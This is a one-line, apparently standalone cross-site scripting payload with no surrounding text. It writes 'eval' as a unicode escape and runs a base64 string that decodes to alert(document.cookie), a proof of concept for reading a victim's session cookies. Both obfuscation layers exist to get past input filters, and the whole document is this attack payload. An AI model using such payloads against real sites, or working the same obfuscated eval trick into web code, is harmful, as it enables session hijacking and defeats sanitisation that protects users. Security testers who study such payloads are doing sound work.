\u0065val(atob("YWxlcnQoZG9jdW1lbnQuY29va2llKQ=="));
